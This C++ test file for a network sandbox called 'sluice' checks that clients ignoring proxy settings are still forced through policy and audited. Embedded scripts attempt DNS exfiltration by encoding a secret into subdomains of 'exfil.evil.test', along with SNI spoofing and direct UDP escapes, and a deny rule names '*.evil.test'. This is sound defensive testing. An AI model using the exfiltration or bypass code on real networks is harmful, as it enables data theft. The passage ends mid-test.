// Transparent capture and sluice's DNS end to end: `sluice run` programs that ignore
// the proxy variables — Node's fetch and http.get, curl --noproxy '*', Python sockets and ssl,
// getent — against upstreams in a network namespace this test makes (reached from the host over
// a veth pair, the way a private service would be), and DNS exfiltration attempts. Nothing may
// reach what no rule allows, and every attempt is in the audit store.
//
// Names: the programs in the sandbox resolve through sluice's DNS only (synthetic addresses);
// the proxy, on the host, resolves the names it dials with the system resolver, so each run is
// started in a mount namespace of its own where /etc/hosts maps the test's names to the
// upstream (nothing of the host changes).
#include <gtest/gtest.h>
#include <unistd.h>

#include <filesystem>
#include <fstream>
#include <nlohmann/json.hpp>
#include <thread>
#include <utility>

#include "isolation.hpp"
#include "netns_upstream.hpp"
#include "proc_scan.hpp"
#include "run_fixture.hpp"

namespace fs = std::filesystem;
using nlohmann::json;

namespace {

using sluice::testing::auditCount;
using sluice::testing::auditSql;
using sluice::testing::parseReceipt;
using sluice::testing::shellOutput;
using sluice::testing::slurp;
using sluice::testing::withHosts;
auto sh(const std::string& cmd) { return shellOutput(cmd); }

// The upstreams, all on 10.231.0.2 in the test's namespace: HTTP on 8080 (python http.server),
// a server-first "ssh-like" banner protocol on 2222 and 2223, TLS on 8443 (certificate for
// tls.allowed.test from a test CA; it answers with the SNI it got), and UDP 53. Every accepted
// connection and datagram is logged ("tcp PORT", "udp PORT") so a test can tell what arrived.
const char kServers[] = R"PY(
import http.server, os, socket, ssl, sys, threading
os.chdir(sys.argv[1])
log = open(sys.argv[2], "a", buffering=1)
lock = threading.Lock()
def note(what):
    with lock:
        log.write(what + "\n")
def listen(port, kind=socket.SOCK_STREAM):
    s = socket.socket(socket.AF_INET, kind)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("10.231.0.2", port))
    if kind == socket.SOCK_STREAM:
        s.listen(64)
    return s
def chat(c):
    try:
        c.sendall(b"SSH-2.0-sluice-test\r\n")
        line = c.makefile("rb").readline()
        c.sendall(b"got " + line)
    except OSError:
        pass
    finally:
        c.close()
def banner(s, port):
    while True:
        c, _ = s.accept()
        note("tcp %d" % port)
        threading.Thread(target=chat, args=(c,), daemon=True).start()
def tls_chat(ctx, c):
    try:
        t = ctx.wrap_socket(c, server_side=True)
        t.sendall(("tls-hello sni=%s\n" % getattr(t, "sni", None)).encode())
        t.close()
    except (OSError, ssl.SSLError):
        c.close()
def tls(s):
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    ctx.load_cert_chain("server.pem", "server.key")
    def sni(sock, name, _ctx):
        sock.sni = name
    ctx.sni_callback = sni
    while True:
        c, _ = s.accept()
        note("tcp 8443")
        threading.Thread(target=tls_chat, args=(ctx, c), daemon=True).start()
def udp(s):
    while True:
        s.recvfrom(4096)
        note("udp 53")
class Quiet(http.server.SimpleHTTPRequestHandler):
    def log_message(self, *a):
        note("tcp 8080")
socks = [(banner, (listen(2222), 2222)), (banner, (listen(2223), 2223)),
         (tls, (listen(8443),)), (udp, (listen(53, socket.SOCK_DGRAM),))]
for fn, args in socks:
    threading.Thread(target=fn, args=args, daemon=True).start()
http.server.ThreadingHTTPServer(("10.231.0.2", 8080), Quiet).serve_forever()
)PY";

// Runs in the sandbox: the server-first protocol by name (through sluice's DNS, over TCP) and
// by address, then the same to a port no rule allows.
const char kRawScript[] = R"PY(
import errno, socket, struct
def dns_tcp(name):
    q = struct.pack("!HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0)
    q += b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0"
    q += struct.pack("!HH", 1, 1)
    t = socket.create_connection(("127.0.0.53", 53), timeout=5)
    t.sendall(struct.pack("!H", len(q)) + q)
    n = struct.unpack("!H", t.recv(2, socket.MSG_WAITALL))[0]
    r = t.recv(n, socket.MSG_WAITALL)
    t.close()
    rcode, ancount = r[3] & 15, struct.unpack("!H", r[6:8])[0]
    return rcode, (socket.inet_ntoa(r[-4:]) if ancount else None)
def talk(label, host, port):
    try:
        s = socket.create_connection((host, port), timeout=10)
        f = s.makefile("rb")
        banner = f.readline().strip().decode()  # the server speaks first
        s.sendall(b"hello\n")
        print(label, "banner=" + banner, "reply=" + f.readline().strip().decode())
    except OSError as e:
        print(label, errno.errorcode.get(e.errno, str(e)))
rcode, addr = dns_tcp("git.allowed.test")
print("dns-tcp", rcode, addr)
talk("by-synthetic", addr, 2222)
talk("by-name", "git.allowed.test", 2222)
talk("by-address", "10.231.0.2", 2222)
talk("other-port-by-name", "git.allowed.test", 2223)
talk("other-port-by-address", "10.231.0.2", 2223)
)PY";

// Runs in the sandbox: TLS to the upstream's address, decided by the SNI the client sends.
const char kTlsScript[] = R"PY(
import errno, socket, ssl
ca = open("/input/in/ca.pem").read()
def hello(label, sni):
    ctx = ssl.create_default_context(cadata=ca)
    if sni is None:
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
    try:
        s = socket.create_connection(("10.231.0.2", 8443), timeout=10)
        t = ctx.wrap_socket(s, server_hostname=sni)
        print(label, t.makefile("rb").readline().strip().decode())
    except (OSError, ssl.SSLError) as e:
        print(label, "refused", type(e).__name__, errno.errorcode.get(e.errno, ""))
hello("sni-allowed", "tls.allowed.test")
hello("sni-other", "evil.allowed.test")
hello("no-sni", None)
)PY";

// Runs in the sandbox: DNS exfiltration over UDP. Unique subdomains carrying data, TXT queries,
// of a denied suffix and of an allowed one, alternately; counts each answer's rcode and records.
const char kExfilScript[] = R"PY(
import collections, errno, socket, struct, sys
n = int(sys.argv[1])
def query(qid, name, qtype):
    q = struct.pack("!HHHHHH", qid, 0x0100, 1, 0, 0, 0)
    q += b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0"
    return q + struct.pack("!HH", qtype, 1)
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.settimeout(5)
u.connect(("127.0.0.53", 53))
seen = collections.Counter()
secret = b"the quarterly numbers are 42".hex()
for i in range(n):
    for kind, suffix in (("denied", "exfil.evil.test"), ("allowed", "data.allowed.test")):
        name = "%s%04d.%s" % (secret[(i * 7) % 40:(i * 7) % 40 + 16], i, suffix)
        qid = (i * 2 + (kind == "allowed")) & 0xffff
        u.send(query(qid, name, 16))
        r = u.recv(4096)
        ok = struct.unpack("!H", r[:2])[0] == qid
        seen["%s rcode=%d answers=%d%s" % (kind, r[3] & 15, struct.unpack("!H", r[6:8])[0],
                                           "" if ok else " WRONG-ID")] += 1
for k in sorted(seen):
    print(k, seen[k])
# Straight to a DNS server outside: no route leaves the namespace but through the proxy.
for addr in ("10.231.0.2", "192.0.2.53"):
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(2)
        s.connect((addr, 53))
        s.send(query(1, "x.exfil.evil.test", 16))
        s.recv(512)
        print("direct", addr, "ANSWERED")
    except OSError as e:
        print("direct", addr, errno.errorcode.get(e.errno, str(e)))
)PY";

// Runs in the sandbox: Node's http.get by name, without any proxy configuration (the sandbox's
// proxy variables are removed for it).
const char kNodeScript[] = R"JS(
for (const k of Object.keys(process.env)) if (/_proxy$/i.test(k)) delete process.env[k];
const http = require("http");
const get = (label, url) => new Promise((done) => {
  http.get(url, (res) => {
    let body = "";
    res.on("data", (c) => (body += c));
    res.on("end", () => { console.log(label, res.statusCode, body.trim()); done(); });
  }).on("error", (e) => { console.log(label, "error", e.code); done(); });
});
(async () => {
  await get("node-by-name", "http://web.allowed.test:8080/index.html");
  await get("node-denied-name", "http://nothing.evil.test:8080/index.html");
})();
)JS";

// Everything that is neither TCP nor DNS to 127.0.0.53: UDP to a documentation address (never
// routed) and to the test's upstream (which listens on udp 53 and logs what arrives), a
// QUIC-like datagram, an ICMP echo if a ping socket can be made, then argv[1] more datagrams
// (a flood) and, after a pause, one last one so that the kernel's log has a message after any
// it had to drop (docs/sandbox.md "Blocked attempts").
const char kBlockedScript[] = R"PY(
import errno, socket, sys, time
def attempt(label, fn):
    try:
        fn()
        print(label, "SENT")
    except OSError as e:
        print(label, errno.errorcode.get(e.errno, str(e.errno)))
def udp(addr, port, payload):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        s.sendto(payload, (addr, port))
    finally:
        s.close()
query = bytes.fromhex("123401000001000000000000") + b"\x07example\x03com\x00\x00\x01\x00\x01"
attempt("dns-direct", lambda: udp("192.0.2.53", 53, query))
attempt("dns-upstream", lambda: udp("10.231.0.2", 53, query))
attempt("quic", lambda: udp("198.51.100.7", 443, b"\xc3" + bytes(1199)))
try:
    ping = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    attempt("icmp", lambda: ping.sendto(b"\x08\x00\x00\x00\x00\x01\x00\x01", ("192.0.2.1", 0)))
except OSError as e:
    print("icmp-socket", errno.errorcode.get(e.errno, str(e.errno)))
n = int(sys.argv[1]) if len(sys.argv) > 1 else 0
if n:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    eperm = 0
    for i in range(n):
        try:
            s.sendto(b"x", ("192.0.2.99", 5353))
        except OSError as e:
            eperm += e.errno == errno.EPERM
    time.sleep(0.3)
    attempt("marker", lambda: udp("192.0.2.100", 9, b"end"))
    print("flood-eperm", eperm)
)PY";

// An upstream namespace "sluice-tp-<pid>" with a veth to the host (10.231.0.1 / 10.231.0.2).
class TransparentRun : public ::testing::Test {
 protected:
  void SetUp() override {
    REQUIRE_ROOT();
    ns_ = "sluice-tp-" + std::to_string(::getpid());
    dir_ = fs::temp_directory_path() / ns_;
    fs::create_directories(dir_ / "in");
    std::ofstream(dir_ / "index.html") << "hello from upstream\n";
    std::ofstream(dir_ / "servers.py") << kServers;
    std::ofstream(dir_ / "in" / "raw.py") << kRawScript;
    std::ofstream(dir_ / "in" / "tls.py") << kTlsScript;
    std::ofstream(dir_ / "in" / "exfil.py") << kExfilScript;
    std::ofstream(dir_ / "in" / "blocked.py") << kBlockedScript;
    std::ofstream(dir_ / "in" / "get.js") << kNodeScript;
    // The names the proxy dials, for its resolver only (see the file comment).
    with_hosts_ = withHosts(dir_,
                            "10.231.0.2 git.allowed.test tls.allowed.test "
                            "evil.allowed.test web.allowed.test");
    const std::string d = dir_.string();
    auto [crc, cout_] =
        sh("(set -e; cd " + d +
           "; openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -days 2 "
           "-keyout ca.key -out in/ca.pem -subj /CN=sluice-test-ca; "
           "openssl req -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -keyout "
           "server.key -out server.csr -subj /CN=tls.allowed.test; "
           "printf 'subjectAltName=DNS:tls.allowed.test\\n' > ext; "
           "openssl x509 -req -in server.csr -CA in/ca.pem -CAkey ca.key -CAcreateserial -days 2 "
           "-extfile ext -out server.pem)");
    ASSERT_EQ(crc, 0) << cout_;
    // The HTTP server starts last: once it answers, every other listener is up.
    const std::string failed = upstream_.start(
        ns_, "tp", "10.231.0",
        {(dir_ / "servers.py").string(), dir_.string(), (dir_ / "upstream.log").string()},
        "http://10.231.0.2:8080/index.html", "hello");
    ASSERT_EQ(failed, "");
    fs::resize_file(dir_ / "upstream.log", 0);  // only what the runs send counts
    writePolicy("policy.yaml", 1000);
  }
  void TearDown() override {
    upstream_.stop();
    if (std::getenv("TP_KEEP") == nullptr) fs::remove_all(dir_);
  }

  void writePolicy(const std::string& file, int max_dns_queries) {
    std::ofstream(dir_ / file)
        << "apiVersion: sluice/v1\nkind: Workflow\nname: transparent\nsandbox:\n  timeout: 60s\n"
           "  network: proxy\negress:\n  rules:\n"
           "    - {id: private-api, action: allow, cidrs: [\"10.231.0.2/32\"], allow_private: "
           "true, ports: [8080, 2222]}\n"
           "    - {id: named, action: allow, hosts: [\"api.allowed.test\"], ports: [443]}\n"
           "    - {id: git, action: allow, hosts: [git.allowed.test], cidrs: [\"10.231.0.2/32\"],"
           " allow_private: true, ports: [2222]}\n"
           "    - {id: tls-api, action: allow, hosts: [tls.allowed.test], cidrs: "
           "[\"10.231.0.2/32\"], allow_private: true, ports: [8443]}\n"
           "    - {id: web, action: allow, hosts: [web.allowed.test], cidrs: [\"10.231.0.2/32\"],"
           " allow_private: true, ports: [8080]}\n"
           "    - {id: exfil-allowed, action: allow, hosts: [\"*.data.allowed.test\"], ports: "
           "[443]}\n"
           "    - {id: no-evil, action: deny, hosts: [\"*.evil.test\"]}\n"
           "  limits: {max_dns_queries: "
        << max_dns_queries << "}\n";
  }
  // `sluice run --json [FLAGS] -- ARGS` (ARGS and FLAGS are shell text): the receipt.
  // /input/in holds the scripts.
  json run(const std::string& args, const std::string& policy = "policy.yaml",
           const std::string& flags = "") {
    auto [rc, out] =
        sh("{ " + with_hosts_ + SLUICE_BINARY + " run " + flags + " --policy " +
           (dir_ / policy).string() + " --audit " + db() + " --input " + (dir_ / "in").string() +
           ":in --receipt " + (dir_ / "receipt.json").string() + " --json -- " + args + " 2>" +
           (dir_ / "run.stderr").string() + "; }");
    json j = parseReceipt(out);
    // What sluice said on stderr (`mode: learn`, errors) stays out of the receipt's JSON.
    out += slurp(dir_ / "run.stderr");
    EXPECT_FALSE(j.is_discarded()) << out;
    // No receipt: what sluice said stands in for the program's output, so every expectation
    // fails with it rather than the test aborting on a missing field.
    if (j.is_discarded() || !j.contains("stdout"))
      return json{{"stdout", {{"text", out}}}, {"execution_id", ""}};
    return j;
  }
  std::string db() const { return (dir_ / "audit.db").string(); }
  std::string sql(const std::string& q) { return auditSql(db(), q); }
  long count(const std::string& q) { return auditCount(db(), q); }
  // `sluice policy replay --json` of execution `exec` against dir_/`policy`: its exit status
  // and the report (discarded JSON when it printed none).
  std::pair<int, json> replay(const std::string& exec, const std::string& policy) {
    auto [rc, out] =
        sh("{ " + std::string(SLUICE_BINARY) + " policy replay --db " + db() + " --execution " +
           exec + " --policy " + (dir_ / policy).string() + " --json; } 2>/dev/null");
    return {rc, json::parse(out, nullptr, false)};
  }
  // How many lines "tcp PORT" / "udp PORT" the upstreams logged.
  int arrived(const std::string& what) {
    const std::string log = slurp(dir_ / "upstream.log");
    int n = 0;
    for (std::size_t at = log.find(what + "\n"); at != std::string::npos;
         at = log.find(what + "\n", at + 1))
      if (at == 0 || log[at - 1] == '\n') ++n;
    return n;
  }
  bool receiptMatchesSchema() {
    const std::string cmd =
        "python3 -c 'import json,sys,jsonschema; jsonschema.validate(json.load(open(sys.argv[1])),"
        " json.load(open(sys.argv[2])))' " +
        (dir_ / "receipt.json").string() + " " SLUICE_SOURCE_DIR "/schemas/receipt.v1.schema.json";
    return std::system(cmd.c_str()) == 0;
  }

  std::string ns_, with_hosts_;
  sluice::testing::NetnsUpstream upstream_;
  fs::path dir_;
};

TEST_F(TransparentRun, ClientsThatIgnoreProxyVariablesStillGoThroughThePolicy) {
  REQUIRE_SANDBOX();
  // Node's fetch, curl with the proxy disabled, and a raw Python socket: to an allowed private
  // address (cidrs rule) they get the page; to anything else the connection is reset.
  auto r = run(
      "/bin/sh -c 'node -e \"fetch(\\\"http://10.231.0.2:8080/index.html\\\").then(r=>r.text())"
      ".then(t=>console.log(\\\"node:\\\"+t.trim())).catch(e=>console.log(\\\"node-error\\\"))\"; "
      "curl -s --noproxy \"*\" --max-time 5 http://10.231.0.2:8080/index.html | sed s/^/curl:/; "
      "python3 -c \"import socket; s=socket.create_connection((\\\"10.231.0.2\\\",8081),5); "
      "s.sendall(b\\\"x\\\"); print(\\\"py-open\\\", s.recv(10))\" 2>/dev/null || echo "
      "py-refused'");
  const std::string out = r["stdout"]["text"];
  EXPECT_NE(out.find("node:hello from upstream"), std::string::npos) << out << r.dump();
  EXPECT_NE(out.find("curl:hello from upstream"), std::string::npos) << out;
  EXPECT_NE(out.find("py-refused"), std::string::npos) << out;
  EXPECT_EQ(count("SELECT count(*) AS n FROM connections WHERE kind = 'transparent' AND "
                  "decision = 'allow' AND host = '10.231.0.2'"),
            2);
  EXPECT_EQ(count("SELECT count(*) AS n FROM connections WHERE kind = 'transparent' AND "
                  "decision = 'deny' AND port = 8081"),
            1);
}

TEST_F(TransparentRun, NodeHttpGetByNameWithoutProxyConfiguration) {
  REQUIRE_SANDBOX();
  auto r = run("node /input/in/get.js");
  const std::string out = r["stdout"]["text"];
  // The name resolved to a synthetic address, the redirected connection was decided by name.
  EXPECT_NE(out.find("node-by-name 200 hello from upstream"), std::string::npos) << out << r.dump();
  // A name no rule allows does not even resolve.
  EXPECT_NE(out.find("node-denied-name error ENOTFOUND"), std::string::npos) << out;
  EXPECT_EQ(count("SELECT count(*) FROM connections WHERE kind = 'transparent' AND decision = "
                  "'allow' AND host = 'web.allowed.test' AND port = 8080 AND rule_id = 'web'"),
            1);
  EXPECT_GE(count("SELECT count(*) FROM dns_queries WHERE name = 'nothing.evil.test' AND "
                  "decision = 'deny' AND answer = 'NXDOMAIN' AND rule_id = 'no-evil'"),
            1);
  EXPECT_EQ(arrived("tcp 8080"), 1);
}

TEST_F(TransparentRun, AServerFirstProtocolIsTunnelledWhereAllowedAndResetElsewhere) {
  REQUIRE_SANDBOX();
  auto r = run("python3 /input/in/raw.py");
  const std::string out = r["stdout"]["text"];
  // TCP DNS answered with a synthetic address; the server's banner comes first either way.
  EXPECT_NE(out.find("dns-tcp 0 198.18."), std::string::npos) << out << r.dump();
  for (const char* l : {"by-synthetic", "by-name", "by-address"})
    EXPECT_NE(out.find(std::string(l) + " banner=SSH-2.0-sluice-test reply=got hello"),
              std::string::npos)
        << l << "\n"
        << out;
  EXPECT_NE(out.find("other-port-by-name ECONNRESET"), std::string::npos) << out;
  EXPECT_NE(out.find("other-port-by-address ECONNRESET"), std::string::npos) << out;
  EXPECT_EQ(arrived("tcp 2222"), 3);
  EXPECT_EQ(arrived("tcp 2223"), 0);  // nothing reached the port no rule allows
  // Every attempt is a row: the two refusals with their targets, the DNS query over TCP.
  EXPECT_EQ(count("SELECT count(*) FROM connections WHERE kind = 'transparent' AND decision = "
                  "'allow' AND port = 2222"),
            3);
  EXPECT_EQ(count("SELECT count(*) FROM connections WHERE kind = 'transparent' AND decision = "
                  "'allow' AND host = 'git.allowed.test' AND rule_id = 'git'"),
            2);
  // By name Python tries each address the name resolved to (A and AAAA), each one reset as
  // soon as the proxy has the connection: one row per attempt.
  EXPECT_EQ(count("SELECT count(*) FROM connections WHERE kind = 'transparent' AND decision = "
                  "'deny' AND port = 2223 AND host = '10.231.0.2' AND reason = "
                  "'port_not_allowed'"),
            1);
  const long by_name = count(
      "SELECT count(*) FROM connections WHERE kind = 'transparent' AND decision = 'deny' AND "
      "port = 2223 AND host = 'git.allowed.test' AND reason = 'port_not_allowed'");
  EXPECT_TRUE(by_name == 1 || by_name == 2) << by_name;
  EXPECT_GE(count("SELECT count(*) FROM dns_queries WHERE name = 'git.allowed.test' AND qtype = "
                  "'A' AND decision = 'allow' AND rule_id = 'git' AND answer LIKE '198.18.%'"),
            1);
}

TEST_F(TransparentRun, TlsIsDecidedByItsServerName) {
  REQUIRE_SANDBOX();
  auto r = run("python3 /input/in/tls.py");
  const std::string out = r["stdout"]["text"];
  // The same address and port: the SNI a rule allows gets through (and the upstream's
  // certificate verifies end to end), another SNI and none at all are reset.
  EXPECT_NE(out.find("sni-allowed tls-hello sni=tls.allowed.test"), std::string::npos)
      << out << r.dump();
  EXPECT_NE(out.find("sni-other refused"), std::string::npos) << out;
  EXPECT_NE(out.find("no-sni refused"), std::string::npos) << out;
  EXPECT_EQ(arrived("tcp 8443"), 1);
  EXPECT_EQ(count("SELECT count(*) FROM connections WHERE kind = 'transparent' AND decision = "
                  "'allow' AND host = 'tls.allowed.test' AND port = 8443 AND rule_id = "
                  "'tls-api'"),
            1);
  EXPECT_EQ(count("SELECT count(*) FROM connections WHERE kind = 'transparent' AND decision = "
                  "'deny' AND host = 'evil.allowed.test' AND port = 8443"),
            1);
  EXPECT_EQ(count("SELECT count(*) FROM connections WHERE kind = 'transparent' AND decision = "
                  "'deny' AND host = '10.231.0.2' AND port = 8443"),
            1);
}

// `policy replay` over redirected connections and DNS answers: against the policy the run went
// under nothing changes; without the rule for web.allowed.test exactly its name's answers and
// its connection turn allow->deny.
TEST_F(TransparentRun, ReplayDecidesRedirectedConnectionsAndDnsAnswersAgain) {
  REQUIRE_SANDBOX();
  auto r = run("node /input/in/get.js");
  const std::string exec = r["execution_id"];
  ASSERT_FALSE(exec.empty()) << r.dump();
  const std::string in_exec = " WHERE execution_id = '" + exec + "'";
  auto [same_rc, same] = replay(exec, "policy.yaml");
  EXPECT_EQ(same_rc, 0) << same.dump(1);
  EXPECT_EQ(same["differences"].size(), 0u) << same.dump(1);
  EXPECT_EQ(same["counts"]["connections"],
            count("SELECT count(*) FROM connections" + in_exec + " AND kind = 'transparent'"));
  EXPECT_EQ(same["counts"]["dns"], count("SELECT count(*) FROM dns_queries" + in_exec));

  std::string without_web = slurp(dir_ / "policy.yaml");
  const auto web = without_web.find("    - {id: web,");
  ASSERT_NE(web, std::string::npos);
  without_web.erase(web, without_web.find('\n', web) + 1 - web);
  std::ofstream(dir_ / "no-web.yaml") << without_web;
  auto [tight_rc, tight] = replay(exec, "no-web.yaml");
  EXPECT_EQ(tight_rc, 1) << tight.dump(1);
  const long web_rows =
      count("SELECT count(*) FROM connections" + in_exec + " AND host = 'web.allowed.test'") +
      count("SELECT count(*) FROM dns_queries" + in_exec +
            " AND name = 'web.allowed.test' AND decision = 'allow'");
  EXPECT_GE(web_rows, 2);
  EXPECT_EQ(tight["counts"]["allow_to_deny"], web_rows) << tight.dump(1);
  for (const auto& d : tight["differences"]) {
    EXPECT_EQ(d["change"], "allow->deny") << d.dump();
    EXPECT_EQ(d["host"], "web.allowed.test") << d.dump();
  }
}

TEST_F(TransparentRun, DnsAnswersOnlyWhatARuleCouldAllowAndNothingLeaves) {
  REQUIRE_SANDBOX();
  auto r =
      run("/bin/sh -c 'getent hosts api.allowed.test | cut -d\" \" -f1 | sed s/^/allowed:/; "
          "getent hosts exfil-1234abcd.denied.test || echo denied-nxdomain; "
          "for i in $(seq 1 200); do getent hosts \"$i-data.leak.test\" >/dev/null && echo LEAKED; "
          "done'");
  const std::string out = r["stdout"]["text"];
  // getent may print the AAAA (64:ff9b:1::/48) or the A (198.18.0.0/15) answer.
  EXPECT_TRUE(out.find("allowed:198.18.") != std::string::npos ||
              out.find("allowed:64:ff9b:1::") != std::string::npos)
      << out << r.dump();
  EXPECT_NE(out.find("denied-nxdomain"), std::string::npos) << out;
  EXPECT_EQ(out.find("LEAKED"), std::string::npos) << out;
  // Every query is a row (getent asks A and AAAA: at least one row per name).
  EXPECT_GE(count("SELECT count(DISTINCT name) AS n FROM dns_queries WHERE decision = 'deny'"),
            201);
  auto [rc, v] = sh(std::string(SLUICE_BINARY) + " audit verify --db " + db());
  EXPECT_EQ(rc, 0) << v;
}

TEST_F(TransparentRun, DnsExfiltrationIsAnsweredNothingRecordedWholeAndCutOffAtTheLimit) {
  REQUIRE_SANDBOX();
  // 2 x 2000 unique TXT queries against a limit of 3000: the first 3000 are answered (NXDOMAIN
  // for the denied suffix, NODATA for the allowed one: no record either way), the rest REFUSED;
  // every one of the 4000 is a row (past the limit rows go on for as many again).
  writePolicy("exfil.yaml", 3000);
  auto r = run("python3 /input/in/exfil.py 2000", "exfil.yaml");
  const std::string out = r["stdout"]["text"];
  EXPECT_NE(out.find("denied rcode=3 answers=0 1500\n"), std::string::npos) << out << r.dump();
  EXPECT_NE(out.find("allowed rcode=0 answers=0 1500\n"), std::string::npos) << out;
  EXPECT_NE(out.find("denied rcode=5 answers=0 500\n"), std::string::npos) << out;
  EXPECT_NE(out.find("allowed rcode=5 answers=0 500\n"), std::string::npos) << out;
  EXPECT_EQ(out.find("WRONG-ID"), std::string::npos) << out;
  EXPECT_NE(out.find("direct 10.231.0.2 EPERM"), std::string::npos) << out;
  EXPECT_NE(out.find("direct 192.0.2.53 EPERM"), std::string::npos) << out;
  EXPECT_EQ(arrived("udp 53"), 0);
  const std::string exec = r["execution_id"];
  const std::string of = "FROM dns_queries WHERE execution_id = '" + exec + "'";
  EXPECT_EQ(count("SELECT count(*) " + of), 4000);
  EXPECT_EQ(count("SELECT count(DISTINCT name) " + of), 4000);
  EXPECT_EQ(count("SELECT count(*) " + of +
                  " AND qtype = 'TXT' AND decision = 'deny' AND answer = 'NXDOMAIN' AND reason = "
                  "'denied_by_rule' AND rule_id = 'no-evil' AND name LIKE '%.exfil.evil.test'"),
            1500);
  EXPECT_EQ(count("SELECT count(*) " + of +
                  " AND qtype = 'TXT' AND decision = 'allow' AND answer = 'NODATA' AND rule_id = "
                  "'exfil-allowed' AND name LIKE '%.data.allowed.test'"),
            1500);
  EXPECT_EQ(count("SELECT count(*) " + of +
                  " AND decision = 'deny' AND answer = 'REFUSED' AND reason = 'limit_exceeded'"),
            1000);
  // The receipt counts them too, and still matches its schema.
  EXPECT_EQ(r["network"]["dns"]["queries"], 4000) << r["network"].dump();
  EXPECT_EQ(r["network"]["dns"]["denied"], 2500) << r["network"].dump();
  EXPECT_TRUE(receiptMatchesSchema());
  auto [rc, v] = sh(std::string(SLUICE_BINARY) + " audit verify --db " + db());
  EXPECT_EQ(rc, 0) << v;
}

// Each denied attempt is in the audit store, UDP, QUIC and ICMP included (they are
// rejected in the sandbox's netns and recorded from the kernel's log), with the right
// destination, and in the receipt's denials. The program got EPERM; nothing arrived.
TEST_F(TransparentRun, BlockedUdpQuicAndIcmpAttemptsAreAuditRowsAndDenials) {
  REQUIRE_SANDBOX();
  auto r = run("python3 /input/in/blocked.py");
  const std::string out = r["stdout"]["text"];
  for (const char* l : {"dns-direct EPERM\n", "dns-upstream EPERM\n", "quic EPERM\n"})
    EXPECT_NE(out.find(l), std::string::npos) << l << out << r.dump();
  EXPECT_EQ(out.find("SENT"), std::string::npos) << out;
  EXPECT_EQ(arrived("udp 53"), 0);
  // The sandbox has no ping group (net.ipv4.ping_group_range) and no CAP_NET_RAW, so an ICMP
  // socket is usually refused before anything is sent: then there is no ICMP attempt to record
  // (tests/runner/transparent_test.cpp sends one from inside the namespace as root instead).
  const bool icmp_sent = out.find("icmp EPERM\n") != std::string::npos;
  if (!icmp_sent) {
    EXPECT_NE(out.find("icmp-socket "), std::string::npos) << out;
  }
  const std::string exec = r["execution_id"];
  const std::string of = "FROM connections WHERE execution_id = '" + exec +
                         "' AND kind = 'blocked' AND decision = 'deny' AND reason = "
                         "'protocol_not_allowed'";
  EXPECT_EQ(count("SELECT count(*) " + of +
                  " AND host = '192.0.2.53' AND port = 53 AND detail = "
                  "'UDP to 192.0.2.53:53 is not allowed out of the sandbox (only TCP through the "
                  "proxy and DNS to 127.0.0.53)'"),
            1)
      << sql("SELECT kind, host, port, reason, detail FROM connections");
  EXPECT_EQ(count("SELECT count(*) " + of + " AND host = '10.231.0.2' AND port = 53"), 1);
  EXPECT_EQ(count("SELECT count(*) " + of + " AND host = '198.51.100.7' AND port = 443"), 1);
  if (icmp_sent) {
    EXPECT_EQ(count("SELECT count(*) " + of +
                    " AND host = '192.0.2.1' AND port = 0 AND detail LIKE 'ICMP to 192.0.2.1 %'"),
              1);
  }
  const long expected = icmp_sent ? 4 : 3;
  EXPECT_EQ(count("SELECT count(*) FROM connections WHERE execution_id = '" + exec +
                  "' AND kind = 'blocked'"),
            expected);
  // The receipt: counted as denials, each with its destination and reason.
  const json& net = r["network"];
  EXPECT_EQ(net["denied"], expected) << net.dump();
  std::vector<std::string> denials;
  for (const auto& d : net["denials"])
    denials.push_back(d["host"].get<std::string>() + ":" + std::to_string(d["port"].get<int>()) +
                      " " + d["reason"].get<std::string>());
  std::vector<std::string> want = {"192.0.2.53:53 protocol_not_allowed",
                                   "10.231.0.2:53 protocol_not_allowed",
                                   "198.51.100.7:443 protocol_not_allowed"};
  if (icmp_sent) want.push_back("192.0.2.1:0 protocol_not_allowed");
  EXPECT_EQ(denials, want) << net.dump();
  EXPECT_TRUE(receiptMatchesSchema());
  auto [rc, v] = sh(std::string(SLUICE_BINARY) + " audit verify --db " + db());
  EXPECT_EQ(rc, 0) << v;
}

// A flood is bounded: the first 1000 attempts of an execution are rows of their own, the rest
// are counted by summary rows (at most one a second) whose count is the number at the start of
// their detail; nothing is lost silently (a kernel-side drop would be a "were lost" row with its
// count), so the rows' counts add up to every attempt, as does the receipt.
TEST_F(TransparentRun, AFloodOfBlockedAttemptsIsBoundedRowsWithEveryAttemptCounted) {
  REQUIRE_SANDBOX();
  auto r = run("python3 /input/in/blocked.py 5000");
  const std::string out = r["stdout"]["text"];
  EXPECT_NE(out.find("flood-eperm 5000\n"), std::string::npos) << out << r.dump();
  EXPECT_NE(out.find("marker EPERM\n"), std::string::npos) << out;
  const long attempts = 3 + 5000 + 1 + (out.find("icmp EPERM\n") != std::string::npos ? 1 : 0);
  const std::string exec = r["execution_id"];
  const std::string of =
      "FROM connections WHERE execution_id = '" + exec + "' AND kind = 'blocked'";
  const long rows = count("SELECT count(*) " + of);
  EXPECT_GE(rows, 1001);  // 1000 of their own and at least one summary
  // Summary rows: at most one a second (the run takes a few seconds at most) plus the last.
  EXPECT_LE(rows, 1000 + 30) << sql("SELECT host, port, detail " + of +
                                    " AND detail NOT LIKE "
                                    "'UDP to %'");
  EXPECT_EQ(count("SELECT count(*) " + of +
                  " AND detail LIKE '% is not allowed out of the "
                  "sandbox %'"),
            1000);
  EXPECT_EQ(
      count("SELECT sum(CASE WHEN detail LIKE '% more blocked attempts since %' OR detail "
            "LIKE '% blocked attempts were lost %' THEN CAST(detail AS INTEGER) ELSE 1 END) " +
            of),
      attempts)
      << sql("SELECT host, port, detail " + of + " AND detail NOT LIKE 'UDP to %'");
  EXPECT_EQ(count("SELECT count(*) " + of + " AND detail LIKE 'an unknown number%'"), 0);
